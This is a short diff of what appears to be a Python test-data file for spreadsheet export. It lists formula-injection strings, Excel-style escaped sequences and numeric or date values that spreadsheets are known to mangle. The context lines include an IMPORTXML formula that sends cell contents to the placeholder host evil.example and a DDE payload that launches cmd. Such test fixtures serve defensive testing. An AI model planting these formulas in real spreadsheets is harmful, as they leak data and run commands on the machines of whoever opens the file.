@@ -27,7 +27,11 @@ INJECTIONS = (
     "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")", "%0A=1+1", '=DDE("cmd";"/C calc";"x")',
 )  # fmt: skip
 # What spreadsheets are known to bend: section by section digits, dates, logic, signs, blanks.
-SPELLED = ("_x000D_", "_x005F_x0041_")  # as Excel spells signs; LibreOffice 7.4 loses one layer of the second
+# As Excel spells signs; LibreOffice 7.4 loses a layer of most of them.
+SPELLED = (
+    "_x000D_", "_x005F_x0041_", "_x005f_x0041_", "_x005F_x005F_x0041_", "_x005F_x005F_x005F_x0041_",
+    "x_x0041_y_x005F_x0042_z", "_x0041_x0042_", "_x005F_x005F_",
+)  # fmt: skip
 AWKWARD = (
     "007", "0049170123", "00123", "1.50", "1,5", "12345678901234567890", "7300712345678901234567", "1E05",
     "1e5", "6.28E+12", "0x1F", "1_000", "1 000", "١٢٣", "½", "3/4", "1-2", "2026-11-22", "22.11.2026",
